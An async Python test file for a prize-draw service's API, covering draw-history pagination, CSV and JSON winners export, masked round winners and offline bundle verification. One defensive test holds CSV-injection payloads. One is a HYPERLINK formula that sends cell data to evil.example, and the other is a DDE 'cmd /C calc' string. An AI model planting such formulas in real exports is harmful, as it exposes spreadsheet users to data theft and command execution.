"""Reading the ledger over HTTP: a user's own history, winners export, and the
masked winners of an ended round."""

from __future__ import annotations

import csv
import gzip
import io
from collections.abc import Callable

import httpx

from app.domain.bundle import check, load
from app.http import spreadsheet
from app.jobs.worker import Worker
from app.services.container import Services
from tests.conftest import ServiceFactory, admin_headers
from tests.helpers import DAY, local, offset_to, prize, rain
from tests.http.test_http import assert_error, bearer

Http = Callable[[Services], httpx.AsyncClient]


async def flushed_activity(
    make_service: ServiceFactory, http: Http
) -> tuple[httpx.AsyncClient, int, list[dict]]:
    svc = make_service(offset_to(local(DAY, 10, 5)))
    client = http(svc)
    aid = (
        await client.post(
            "/v1/admin/activities",
            json=rain([prize("c2", 6, 0.5)], limits={"per_round": 30}),
            headers=admin_headers(),
        )
    ).json()["id"]
    await client.post(f"/v1/admin/activities/{aid}/publish", headers=admin_headers())
    made = []
    for _ in range(25):
        resp = await client.post("/v1/draw", json={"activity_id": aid}, headers=bearer("hana"))
        made.append(resp.json())
    for i in range(15):
        await client.post("/v1/draw", json={"activity_id": aid}, headers=bearer(f"other{i}"))
    await Worker.wired(svc.settings, svc.redis, svc.db, name="w").drain(30)
    return client, aid, made


async def test_my_draws_newest_first_with_cursor(make_service: ServiceFactory, http: Http) -> None:
    client, aid, made = await flushed_activity(make_service, http)
    seen: list[dict] = []
    cursor = None
    for _ in range(10):
        params = {"activity_id": aid, "limit": 10, **({"cursor": cursor} if cursor else {})}
        page = (await client.get("/v1/me/draws", params=params, headers=bearer("hana"))).json()
        seen += page["draws"]
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert [d["draw_id"] for d in seen] == [m["draw_id"] for m in reversed(made)]
    for d, m in zip(seen, reversed(made), strict=True):
        assert d["won"] == m["won"] and d["prize"] == m["prize"]
        assert d["proof"]["nonce"] == m["proof"]["nonce"]
    # Only one's own draws; nobody else's appear.
    assert all(d["round_id"].startswith(f"{aid}:") for d in seen)
    mine = (await client.get("/v1/me/draws", headers=bearer("other3"))).json()
    assert len(mine["draws"]) == 1 and mine["next_cursor"] is None
    assert (await client.get("/v1/me/draws", headers=bearer("nobody"))).json() == {
        "draws": [],
        "next_cursor": None,
    }


async def test_my_draws_bad_input(make_service: ServiceFactory, http: Http) -> None:
    client = http(make_service())
    assert_error(await client.get("/v1/me/draws"), 401)
    assert_error(await client.get("/v1/me/draws", headers=admin_headers()), 403)
    for params in (
        {"limit": 0},
        {"limit": 1000},
        {"limit": "x"},
        {"cursor": "%%%"},
        {"cursor": "bm9wZQ"},
        {"activity_id": "a"},
    ):
        assert_error(await client.get("/v1/me/draws", params=params, headers=bearer("x")), 422)


async def test_winners_json_and_csv(make_service: ServiceFactory, http: Http) -> None:
    client, aid, made = await flushed_activity(make_service, http)
    won = [m for m in made if m["won"]]
    resp = await client.get(f"/v1/admin/activities/{aid}/winners", headers=admin_headers())
    rows = resp.json()["winners"]
    assert {r["draw_id"] for r in rows} >= {m["draw_id"] for m in won}
    assert len(rows) == 6  # the whole stock of c2 was won by hana and the others
    assert all(r["prize_name"] == "prize c2" and r["prize_value"] == "V-c2" for r in rows)
    page = (
        await client.get(
            f"/v1/admin/activities/{aid}/winners", params={"limit": 4}, headers=admin_headers()
        )
    ).json()
    rest = (
        await client.get(
            f"/v1/admin/activities/{aid}/winners",
            params={"limit": 4, "cursor": page["next_cursor"]},
            headers=admin_headers(),
        )
    ).json()
    assert [r["draw_id"] for r in page["winners"] + rest["winners"]] == [r["draw_id"] for r in rows]
    resp = await client.get(
        f"/v1/admin/activities/{aid}/winners?format=csv", headers=admin_headers()
    )
    assert resp.status_code == 200 and resp.headers["content-type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(resp.text)))
    assert [r["draw_id"] for r in table] == [r["draw_id"] for r in rows]
    assert table[0]["user_id"] and table[0]["prize_key"] == "c2"
    one_round = (
        await client.get(
            f"/v1/admin/activities/{aid}/winners",
            params={"round": "20300601:0"},
            headers=admin_headers(),
        )
    ).json()
    assert len(one_round["winners"]) == 6
    assert_error(
        await client.get(f"/v1/admin/activities/{aid}/winners?format=xml", headers=admin_headers()),
        422,
    )
    assert_error(
        await client.get(f"/v1/admin/activities/{aid}/winners", headers=bearer("hana")), 403
    )
    assert_error(
        await client.get("/v1/admin/activities/999999/winners?format=csv", headers=admin_headers()),
        404,
    )


HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"claim")',
    "value": "+1+cmd|' /C calc'!A0",
}


async def test_winners_csv_cells_are_never_formulas(
    make_service: ServiceFactory, http: Http
) -> None:
    """OWASP CSV injection: prize names, values, keys and user ids that begin
    like a formula come out as text (a leading quote); the JSON is untouched."""
    svc = make_service(offset_to(local(DAY, 10, 5)))
    client = http(svc)
    prizes = [
        prize("-k", 50, 0.5, name=HOSTILE["name"], value=HOSTILE["value"]),
        prize("n", 50, 0.5, name="@SUM(1+1)", value="-5"),
    ]
    aid = (
        await client.post("/v1/admin/activities", json=rain(prizes), headers=admin_headers())
    ).json()["id"]
    await client.post(f"/v1/admin/activities/{aid}/publish", headers=admin_headers())
    for user in ("@A1", "-1", "plain"):
        for _ in range(6):
            await client.post("/v1/draw", json={"activity_id": aid}, headers=bearer(user))
    await Worker.wired(svc.settings, svc.redis, svc.db, name="w").drain(30)
    rows = (
        await client.get(f"/v1/admin/activities/{aid}/winners", headers=admin_headers())
    ).json()["winners"]
    resp = await client.get(
        f"/v1/admin/activities/{aid}/winners?format=csv", headers=admin_headers()
    )
    table = list(csv.DictReader(io.StringIO(resp.text)))
    assert len(table) == len(rows) and {r["prize_key"] for r in rows} == {"-k", "n"}
    assert {r["user_id"] for r in rows} == {"@A1", "-1", "plain"}
    for line, raw in zip(table, rows, strict=True):
        for column, text in line.items():
            assert not text.startswith(("=", "+", "-", "@", "\t", "\r")), (column, text)
            original = raw[column] or ""
            dangerous = original.startswith(("=", "+", "-", "@"))
            assert text == ("'" + original if dangerous else original), (column, text)
    assert any(r["prize_name"] == HOSTILE["name"] for r in rows)  # JSON keeps the raw text
    assert any(line["prize_name"] == "'" + HOSTILE["name"] for line in table)
    # Each cell on its own: which user won which prize is the draw's luck.
    assert any(line["prize_value"] == "'-5" for line in table)
    assert any(line["user_id"] == "'-1" for line in table)
    assert any(line["user_id"] == "plain" for line in table)


def test_spreadsheet_cells() -> None:
    for text in ("=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1", "\n=1"):
        assert spreadsheet.cell(text) == "'" + text
    for text in ("", "CPN-2", "2 yuan", "'=1"):
        assert spreadsheet.cell(text) == text
    assert spreadsheet.cell(-5) == -5 and spreadsheet.cell(None) is None  # ints we produce


async def test_round_page_shows_masked_winners_after_it_ends(
    make_service: ServiceFactory, http: Http
) -> None:
    client, aid, _ = await flushed_activity(make_service, http)
    rid = f"{aid}:20300601:0"
    open_now = (await client.get(f"/v1/rounds/{rid}")).json()
    assert open_now["winners"] is None and open_now["seed"] is None
    later = http(make_service(offset_to(local(DAY, 11, 5))))
    ended = (await later.get(f"/v1/rounds/{rid}")).json()
    assert len(ended["winners"]) == 6
    assert all("***" in w["user"] and w["prize"] == "prize c2" for w in ended["winners"])
    assert not any(
        w["user"] in ("hana",) or w["user"].startswith("other") for w in ended["winners"]
    )


async def test_an_ended_rounds_public_bundle_replays_offline(
    make_service: ServiceFactory, http: Http
) -> None:
    client, aid, made = await flushed_activity(make_service, http)
    rid = f"{aid}:20300601:0"
    assert_error(await client.get(f"/v1/rounds/{rid}/bundle"), 409, "round_not_ended")
    later = http(make_service(offset_to(local(DAY, 11, 5))))
    resp = await later.get(f"/v1/rounds/{rid}/bundle")
    assert resp.status_code == 200 and resp.headers["content-type"] == "application/gzip"
    assert "attachment" in resp.headers["content-disposition"]
    raw = gzip.decompress(resp.content)
    bundle = load(raw.splitlines())
    report = check(bundle)
    assert report.ok and report.draws == 40 and report.wins == 6, report.findings[:3]
    # Players are pseudonyms the revealed seed cannot be tested against.
    assert b'"hana"' not in raw and b'"other' not in raw
    assert b"V-c2" not in raw  # prize values stay private, as on the round's page
    users = {d.record.user_id for d in bundle.draws}
    assert len(users) == 16 and all(u.startswith("p-") for u in users)
    hana = [d for d in bundle.draws if d.record.nonce == 25]  # only hana drew 25 times
    assert len(hana) == 1 and [m["draw_id"] for m in made][-1] == hana[0].record.draw_id
    # A changed byte of a draw is caught offline, as in `redrain export`'s file.
    lines = raw.splitlines()
    lines[3] = lines[3].replace(b'"nonce":', b'"nonce":9', 1)
    assert not check(load(lines)).ok
    again = await later.get(f"/v1/rounds/{rid}/bundle")  # built once, then kept
    assert again.content == resp.content
    assert_error(await later.get(f"/v1/rounds/{aid}:20300601:7/bundle"), 404, "round_not_found")
    assert_error(await later.get("/v1/rounds/x:y/bundle"), 404, "round_not_found")
